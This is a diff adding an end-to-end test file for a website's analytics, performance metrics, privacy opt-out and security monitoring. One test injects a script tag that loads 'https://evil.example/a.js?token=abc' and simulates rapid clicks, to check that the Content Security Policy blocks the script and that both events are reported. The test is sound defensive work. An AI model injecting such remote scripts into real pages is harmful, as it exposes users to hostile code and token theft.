@@ -1,0 +1,130 @@
+import { setTimeout as pause } from 'node:timers/promises'
+import type { Page } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest'
+import { aBrowser, aSiteToVisit, type Visitor, WIDE } from '../support/browser.ts'
+import { claim } from './claim.ts'
+
+let site: Awaited<ReturnType<typeof aSiteToVisit>>
+let visitor: Visitor
+let page: Page
+beforeAll(async () => {
+  site = await aSiteToVisit()
+})
+afterAll(() => site.close())
+beforeEach(async () => {
+  for (const table of ['error_logs', 'analytics_events', 'performance_metrics', 'security_events', 'turns'])
+    await site.world.sql`delete from ${site.world.sql(table)}`
+  visitor = await aBrowser(site.browser, site.world, { viewport: WIDE })
+  page = visitor.page
+})
+afterEach(() => visitor.close())
+
+/** Opens a page and waits for the code that watches it. */
+async function open(path: string): Promise<void> {
+  const watched = page.waitForRequest('**/api/v1/analytics-events', { timeout: 8_000 })
+  await page.goto(path)
+  await watched
+}
+
+async function rows<T extends object>(table: string, atLeast: number): Promise<T[]> {
+  const end = performance.now() + 10_000
+  for (;;) {
+    const found = await site.world.sql<T[]>`select * from ${site.world.sql(table)} order by id`
+    if (found.length >= atLeast || performance.now() > end) return [...found]
+    await pause(25)
+  }
+}
+
+type ErrorRow = {
+  error_message: string
+  error_stack: string
+  page_url: string
+  severity: string
+  context: { type: string }
+}
+const errors = (atLeast: number) => rows<ErrorRow>('error_logs', atLeast)
+
+type EventRow = { event_name: string; properties: { page_url: string; user_agent: string } }
+
+test(claim('1.14 3.18 7.8', 'each page seen is one event with its address, without secrets'), async () => {
+  await open('/terms?token=abc&x=1#email=a')
+  // Nobody promises that two on their way at once arrive in turn.
+  await rows<EventRow>('analytics_events', 1)
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Privacy' }).click()
+  await page.waitForURL('**/privacy')
+  const seen = await rows<EventRow>('analytics_events', 2)
+  expect(seen.map(({ event_name, properties }) => [event_name, properties.page_url])).toEqual([
+    ['page_view', `${site.world.url}/terms?token=&x=1#email=`],
+    ['page_view', `${site.world.url}/privacy`],
+  ])
+  expect(seen[0]?.properties.user_agent).toContain('Mozilla')
+})
+
+type MetricRow = { metric_name: string; metric_value: number; page_url: string }
+
+test(claim('1.15 7.9 9.9', 'all nine metrics and INP have arrived when the page is left'), async () => {
+  await page.goto('/browse?location=Berlin')
+  await page.locator('html[data-ready]').waitFor()
+  await page.waitForLoadState('networkidle')
+  await page.locator('input[name=location]').first().fill('Ber')
+  await page.waitForResponse('**/api/v1/places?**')
+  await page.mouse.click(5, 5)
+  await pause(500)
+  await page.goto('about:blank')
+  // The page before, when it was left, may have had a last word too.
+  const arrived = async () =>
+    (await rows<MetricRow>('performance_metrics', 0)).filter((row) => row.page_url === '/browse')
+  await expect.poll(async () => (await arrived()).length, { timeout: 10_000 }).toBeGreaterThanOrEqual(10)
+  const metrics = await arrived()
+  expect([...new Set(metrics.map(({ metric_name }) => metric_name))].sort()).toEqual([
+    'api_response_time',
+    'cls',
+    'dns_lookup_time',
+    'dom_content_loaded_time',
+    'fid',
+    'initial_page_load',
+    'inp',
+    'lcp',
+    'page_load_time',
+    'server_response_time',
+  ])
+  for (const { metric_name, metric_value } of metrics) expect(metric_value, metric_name).toBeGreaterThanOrEqual(0)
+})
+
+test('who asks not to be followed is neither counted nor measured; errors arrive', async () => {
+  await page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }))
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(new URL(request.url()).pathname))
+  await page.goto('/terms')
+  await page.waitForLoadState('networkidle')
+  await page.evaluate(() => console.error('still told'))
+  expect(await errors(1)).toHaveLength(1)
+  await page.goto('about:blank')
+  expect(asked.filter((path) => /analytics-events|performance-metrics/.test(path))).toEqual([])
+})
+
+type SecurityRow = { event_type: string; details: Record<string, unknown>; seen_by_server: boolean }
+
+test(
+  claim('7.10 7.23', 'clicks faster than a hand and a blocked script are told to the security monitor'),
+  async () => {
+    await open('/terms')
+    await page.evaluate(() => {
+      for (let n = 0; n < 30; n++) document.body.click()
+    })
+    await page.evaluate(() => {
+      const script = document.createElement('script')
+      script.src = 'https://evil.example/a.js?token=abc'
+      document.body.append(script)
+    })
+    await rows('security_events', 1)
+    await page.evaluate(() => document.body.click())
+    const told = await rows<SecurityRow>('security_events', 2)
+    expect(told.map(({ event_type, details, seen_by_server }) => [event_type, details, seen_by_server])).toEqual([
+      ['console_security_warning', { directive: 'script-src-elem', blocked: 'https://evil.example' }, false],
+      ['suspicious_rapid_clicks', { clicks: 31, within_ms: 5_000 }, false],
+    ])
+    // This violation was wanted.
+    expect(visitor.complaints.splice(0)).toHaveLength(1)
+  },
+)
